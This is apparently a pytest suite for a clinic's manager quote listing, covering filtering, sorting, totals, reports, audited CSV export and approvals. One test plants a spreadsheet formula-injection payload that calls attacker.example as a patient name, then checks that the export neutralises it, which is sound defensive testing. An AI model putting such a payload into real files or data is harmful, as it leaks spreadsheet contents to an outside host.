"""The manager's quote listing against a real database built by hand.

Every filter, sort and aggregate is checked against what the hand-built dataset says
it must be, and the totals against a direct SQL sum.
"""

from __future__ import annotations

import csv
import json
import time
from datetime import date, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select, text

from consult.access import Actor
from consult.errors import ConsultError, InvalidField, PermissionDenied
from consult.pricing import reports
from consult.storage import quotes
from consult.storage.manager_queries import ManagerQueries, QuoteFilter, QuoteSort
from consult.storage.models import AuditEvent
from consult.storage.models.clinical import Quote
from tests.ui.manager.clinic_data import (
    SPECS,
    QuoteSpec,
    add_manager,
    at,
    consultation_of,
    fill,
    priced_quote,
)


@pytest.fixture
def clinic(db):
    """The hand-built clinic on each engine under test (the storage tests' `db`)."""
    actor = add_manager(db)
    ids = fill(db)
    return db, ManagerQueries(db, actor), ids


def everything(queries: ManagerQueries, flt: QuoteFilter, sort: QuoteSort | None = None):
    return queries.page(flt, sort or QuoteSort(), 0, 1000)


def expected_patients(keep) -> list[str]:
    """Patients of the specs `keep` selects, newest first (the default order)."""
    chosen = sorted((s for s in SPECS if keep(s)), key=lambda s: s.created, reverse=True)
    return [s.patient for s in chosen]


def test_no_filter_lists_every_quote_newest_first(clinic):
    _, queries, _ = clinic
    rows = everything(queries, QuoteFilter())
    assert [row.patient_name for row in rows] == expected_patients(lambda s: True)
    assert rows[0].total == Decimal("88.80")
    assert all(isinstance(row.total, Decimal) for row in rows)
    assert all(row.created_at.tzinfo is not None for row in rows)


@pytest.mark.parametrize("status", ["draft", "presented", "accepted", "declined", "expired"])
def test_status_filter(clinic, status):
    _, queries, _ = clinic
    rows = everything(queries, QuoteFilter(statuses=frozenset({status})))
    assert [row.patient_name for row in rows] == expected_patients(lambda s: s.status == status)
    assert {row.status for row in rows} == {status}


@pytest.mark.parametrize("approval", ["not_needed", "pending", "approved", "rejected"])
def test_approval_filter(clinic, approval):
    _, queries, _ = clinic
    rows = everything(queries, QuoteFilter(approvals=frozenset({approval})))
    assert [row.patient_name for row in rows] == expected_patients(lambda s: s.approval == approval)


def test_practitioner_filter_and_quotes_without_practitioner(clinic):
    _, queries, ids = clinic
    rows = everything(queries, QuoteFilter(practitioner_id=ids["Ben Okafor"]))
    assert [row.patient_name for row in rows] == expected_patients(
        lambda s: s.practitioner == "Ben Okafor"
    )
    unassigned = [row for row in everything(queries, QuoteFilter()) if not row.practitioner_name]
    assert [row.patient_name for row in unassigned] == ["Tom Hardy"]


def test_a_date_range_to_the_last_day_a_calendar_offers(clinic):
    _, queries, _ = clinic
    rows = everything(queries, QuoteFilter(created_to=date.max))
    assert len(rows) == len(SPECS)


def test_date_range_is_inclusive_of_both_local_days(clinic):
    _, queries, _ = clinic
    first, last = date(2026, 2, 1), date(2026, 2, 28)
    rows = everything(queries, QuoteFilter(created_from=first, created_to=last))

    def local_day(spec):
        return spec.created.astimezone().date()

    assert [row.patient_name for row in rows] == expected_patients(
        lambda s: first <= local_day(s) <= last
    )
    assert len(rows) >= 2


@pytest.mark.parametrize(
    ("typed", "patients"),
    [
        ("souza", {"Maria Souza"}),  # the practitioner Ana Souza is not a patient match
        ("ZOE", {"Zoë Ångström"}),  # case and accents ignored
        ("ångs", {"Zoë Ångström"}),  # word prefix
        ("souza mar", {"Maria Souza"}),  # every word, any order
        ("иван", {"Иван Петров"}),
        ("ouza", {"Maria Souza"}),  # three letters or more: anywhere in the name
        ("ou", set()),  # one or two: the start of a word only
        ("ha", {"Tom Hardy"}),
        ("%", set()),  # LIKE wildcards are literal
        ("souza\x00mar", {"Maria Souza"}),  # a pasted control character separates words
        ("   ", {"Zoë Ångström", "Maria Souza", "Иван Петров", "Tom Hardy"}),
    ],
)
def test_patient_name_filter(clinic, typed, patients):
    _, queries, _ = clinic
    rows = everything(queries, QuoteFilter(patient_name=typed))
    assert {row.patient_name for row in rows} == patients
    assert len(rows) == sum(1 for s in SPECS if s.patient in patients)


def test_filters_combine(clinic):
    _, queries, ids = clinic
    flt = QuoteFilter(
        statuses=frozenset({"accepted"}), practitioner_id=ids["Ana Souza"], patient_name="zoe"
    )
    rows = everything(queries, flt)
    assert [(row.patient_name, row.total) for row in rows] == [("Zoë Ångström", Decimal("1000.00"))]


@pytest.mark.parametrize(
    "column", ["id", "created", "patient", "practitioner", "status", "approval", "total"]
)
@pytest.mark.parametrize("descending", [False, True])
def test_sort_by_every_column_in_the_database(clinic, column, descending):
    _, queries, _ = clinic
    rows = everything(queries, QuoteFilter(), QuoteSort(column, descending))
    attribute = {
        "created": "created_at",
        "patient": "patient_name",
        "practitioner": "practitioner_name",
        "total": "total",
    }.get(column, column)
    keys = [(getattr(row, attribute), row.id) for row in rows]
    assert keys == sorted(keys, reverse=descending)
    assert len(rows) == len(SPECS)


def test_pages_cover_the_listing_once_in_order(clinic):
    _, queries, _ = clinic
    sort = QuoteSort("total", descending=False)
    pages = [queries.page(QuoteFilter(), sort, offset, 5) for offset in (0, 5, 10, 15)]
    assert [len(page) for page in pages] == [5, 5, 2, 0]
    joined = [row.id for page in pages for row in page]
    assert joined == [row.id for row in everything(queries, QuoteFilter(), sort)]


@pytest.mark.parametrize(
    ("flt", "where"),
    [
        (QuoteFilter(), "1 = 1"),
        (QuoteFilter(statuses=frozenset({"accepted"})), "status = 'accepted'"),
        (
            QuoteFilter(
                statuses=frozenset({"accepted", "presented"}), approvals=frozenset({"approved"})
            ),
            "status IN ('accepted', 'presented') AND approval = 'approved'",
        ),
    ],
)
def test_totals_match_a_direct_sql_sum(clinic, flt, where):
    db, queries, _ = clinic
    totals = queries.totals(flt)
    with db.engine.connect() as connection:
        count, stored = connection.execute(
            text(f"SELECT count(*), coalesce(sum(total), 0) FROM quotes WHERE {where}")
        ).one()
    # SQLite keeps money as whole cents (consult.storage.types.ExactDecimal).
    expected = Decimal(stored) / 100 if db.dialect == "sqlite" else Decimal(stored)
    assert totals.count == count
    assert totals.sums.get("USD", Decimal("0.00")) == expected


def test_totals_of_an_empty_selection(clinic):
    _, queries, _ = clinic
    totals = queries.totals(QuoteFilter(patient_name="nobody"))
    assert (totals.count, totals.sums) == (0, {})


def test_status_tallies_feed_the_monthly_report(clinic):
    _, queries, _ = clinic
    rows = reports.by_month(queries.status_tallies())
    assert [row.key for row in rows] == ["2026-01", "2026-02", "2026-03"]
    january = rows[0]
    assert (january.quotes, january.presented, january.accepted) == (4, 3, 2)
    assert january.accepted_revenue == Decimal("1500.50")
    by_person = {row.key: row for row in reports.by_practitioner(queries.status_tallies())}
    assert set(by_person) == {"Ana Souza", "Ben Okafor", "(no practitioner)"}
    assert by_person["Ana Souza"].accepted_revenue == Decimal("1575.50")
    assert by_person["Ben Okafor"].conversion_percent == Decimal("0.0")


@pytest.fixture
def ten_hours_east(monkeypatch):
    """This computer's clock at UTC+10 all year (a POSIX zone: no time zone files needed)."""
    monkeypatch.setenv("TZ", "AEST-10")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_the_monthly_report_counts_local_months_as_the_date_filters_do(clinic, ten_hours_east):
    _, queries, _ = clinic
    # 23:00 UTC on 31 January is 09:00 on 1 February here: a February quote.
    rows = {row.key: row for row in reports.by_month(queries.status_tallies())}
    assert (rows["2026-01"].quotes, rows["2026-02"].quotes) == (3, 4)
    assert rows["2026-02"].presented == 4  # the declined quote among them
    for key, row in rows.items():
        first = date.fromisoformat(f"{key}-01")
        last = (first + timedelta(days=32)).replace(day=1) - timedelta(days=1)
        listed = everything(queries, QuoteFilter(created_from=first, created_to=last))
        assert row.quotes == len(listed), key


def test_the_monthly_report_of_a_filtered_selection(clinic, ten_hours_east):
    _, queries, _ = clinic
    flt = QuoteFilter(statuses=frozenset({"declined"}))
    rows = reports.by_month(queries.status_tallies(flt))
    assert [(row.key, row.quotes) for row in rows] == [("2026-02", 1), ("2026-03", 1)]
    assert queries.status_tallies(QuoteFilter(patient_name="nobody")) == []


def test_practitioners_for_the_filter(clinic):
    _, queries, ids = clinic
    found = queries.practitioners()
    assert [(p.id, p.name) for p in found] == [
        (ids["Ana Souza"], "Ana Souza"),
        (ids["Ben Okafor"], "Ben Okafor"),
    ]


def test_csv_export_round_trips_and_is_audited(clinic, tmp_path):
    db, queries, _ = clinic
    flt = QuoteFilter(statuses=frozenset({"accepted"}))
    path = tmp_path / "export" / "accepted.csv"
    written = queries.export_csv(path, flt, QuoteSort("total", descending=True))
    with path.open(newline="", encoding="utf-8") as handle:
        parsed = list(csv.DictReader(handle))
    assert written == len(parsed) == 4
    assert [row["total"] for row in parsed] == ["1000.00", "500.50", "199.00", "75.00"]
    assert parsed[0]["patient"] == "Zoë Ångström"
    assert parsed[0]["practitioner"] == "Ana Souza"
    assert parsed[0]["discount"] == "0.00"
    assert {row["status"] for row in parsed} == {"accepted"}
    with db.Session() as session:
        event = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "quotes.export_csv")
        ).one()
    assert json.loads(event.detail) == {"file": "accepted.csv", "rows": 4}
    assert event.username == "boss"


def test_csv_export_neutralises_a_patient_name_a_spreadsheet_would_run(clinic, tmp_path):
    db, queries, ids = clinic
    payload = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
    with db.Session.begin() as session:
        session.execute(
            text("UPDATE patients SET name = :name WHERE id = :id"),
            {"name": payload, "id": ids["Tom Hardy"]},
        )
    path = tmp_path / "all.csv"
    queries.export_csv(path, QuoteFilter(), QuoteSort("total", descending=True))
    with path.open(newline="", encoding="utf-8") as handle:
        parsed = list(csv.DictReader(handle))
    names = {row["patient"] for row in parsed}
    assert "'" + payload in names and payload not in names
    assert all(not row["patient"].startswith(("=", "+", "-", "@")) for row in parsed)
    assert {row["total"] for row in parsed} >= {"1000.00", "75.00"}


def test_only_managers_list_every_quote(clinic):
    db, _, _ = clinic
    with pytest.raises(PermissionDenied):
        ManagerQueries(db, Actor(None, "pat", "practitioner", "seat"))


@pytest.mark.parametrize(
    ("build", "field"),
    [
        (lambda: QuoteFilter(statuses=frozenset({"won"})), "status"),
        (lambda: QuoteFilter(approvals=frozenset({"maybe"})), "approval"),
        (
            lambda: QuoteFilter(created_from=date(2026, 2, 2), created_to=date(2026, 2, 1)),
            "created_to",
        ),
        (lambda: QuoteSort("colour"), "sort"),
    ],
)
def test_bad_filters_name_the_field(build, field):
    with pytest.raises(InvalidField) as caught:
        build()
    assert caught.value.field == field


def test_totals_of_a_set_with_two_currencies_sum_each_currency(db):
    queries = ManagerQueries(db, add_manager(db))
    euro = QuoteSpec(
        "Tom Hardy", "Ana Souza", "accepted", "not_needed", "40.00", at(2026, 4, 1), currency="EUR"
    )
    fill(db, (*SPECS[:2], euro))
    totals = queries.totals(QuoteFilter())
    assert totals.count == 3
    assert totals.sums == {"USD": Decimal("1500.50"), "EUR": Decimal("40.00")}


def audit_actions(db) -> list[str]:
    with db.Session() as session:
        return list(session.scalars(select(AuditEvent.action).order_by(AuditEvent.id)))


def test_detail_shows_lines_areas_verdict_and_history(clinic):
    db, queries, _ = clinic
    consultation_id = consultation_of(db, 1)
    quote_id = priced_quote(
        db,
        queries.actor,
        consultation_id,
        add_ons=("numbing",),
        manual_discount_percent=Decimal("15"),
    )
    detail = queries.detail(quote_id)
    assert detail.patient_name == "Zoë Ångström"
    assert detail.treatment == "Micro-needling (mechanical pen)"
    assert [(a.area, a.concerns) for a in detail.areas] == [("Cheeks", ("Acne scars",))]
    assert detail.screening_verdict == "proceed"
    assert [(line.item, line.unit_price, line.quantity) for line in detail.quote.lines] == [
        ("face", Decimal("199.00"), 4),
        ("numbing", Decimal("25.00"), 4),
    ]
    assert detail.quote.subtotal == Decimal("896.00")
    assert detail.quote.discount == Decimal("134.40")
    assert detail.quote.approval == "pending"
    assert [event.action for event in detail.history] == ["quote.create"]
    assert audit_actions(db)[-1] == "quote.view"  # opening the detail is audited


def test_approving_writes_the_decision_and_an_audit_event(clinic):
    db, queries, _ = clinic
    quote_id = priced_quote(
        db, queries.actor, consultation_of(db, 1), manual_discount_percent=Decimal("20")
    )
    before = queries.detail(quote_id).quote
    quotes.decide_approval(
        db,
        queries.actor,
        quote_id,
        approve=True,
        comment="loyal patient",
        expected_version=before.version,
    )
    after = queries.detail(quote_id)
    assert (after.quote.approval, after.quote.approval_comment) == ("approved", "loyal patient")
    assert after.quote.approved_by == queries.actor.user_id
    assert [e.action for e in after.history] == ["quote.create", "quote.approve"]
    assert after.history[-1].detail["comment"] == "loyal patient"
    assert after.history[-1].username == "boss"


def test_declining_needs_a_comment_and_is_audited(clinic):
    db, queries, _ = clinic
    quote_id = priced_quote(
        db, queries.actor, consultation_of(db, 2), manual_discount_percent=Decimal("30")
    )
    version = queries.detail(quote_id).quote.version
    with pytest.raises(InvalidField) as caught:
        quotes.decide_approval(
            db, queries.actor, quote_id, approve=False, comment=" ", expected_version=version
        )
    assert caught.value.field == "comment"
    quotes.decide_approval(
        db,
        queries.actor,
        quote_id,
        approve=False,
        comment="over the clinic's limit",
        expected_version=version,
    )
    detail = queries.detail(quote_id)
    assert detail.quote.approval == "rejected"
    assert "quote.reject" in audit_actions(db)


def test_reopening_an_expired_quote_makes_a_new_draft_priced_today(clinic):
    _, queries, ids = clinic
    expired_id = next(
        row.id for row in everything(queries, QuoteFilter(statuses=frozenset({"expired"})))
    )
    today = date(2026, 5, 10)
    new_id = queries.reopen_expired(expired_id, today=today)
    new = queries.detail(new_id)
    old = queries.detail(expired_id)
    assert old.quote.status == "expired"
    assert new.quote.status == "draft"
    assert new.quote.consultation_id == old.quote.consultation_id
    assert new.quote.practitioner_id == ids["Ben Okafor"]
    assert new.quote.valid_until == today + timedelta(days=30)
    assert new.quote.total == Decimal("796.00")  # face 199.00 x 4 sessions, today's prices
    assert [e.action for e in new.history] == ["quote.create", "quote.reopen"]
    assert [e.action for e in old.history] == ["quote.reopen"]
    assert old.history[0].detail == {"quote": new_id, "reopened_from": expired_id}


def test_only_an_expired_quote_can_be_reopened(clinic):
    db, queries, _ = clinic
    accepted_id = next(
        row.id for row in everything(queries, QuoteFilter(statuses=frozenset({"accepted"})))
    )
    with pytest.raises(ConsultError, match=r"cannot be reopened"):
        queries.reopen_expired(accepted_id)
    with db.Session() as session:
        assert session.scalar(select(func.count()).select_from(Quote)) == len(SPECS)
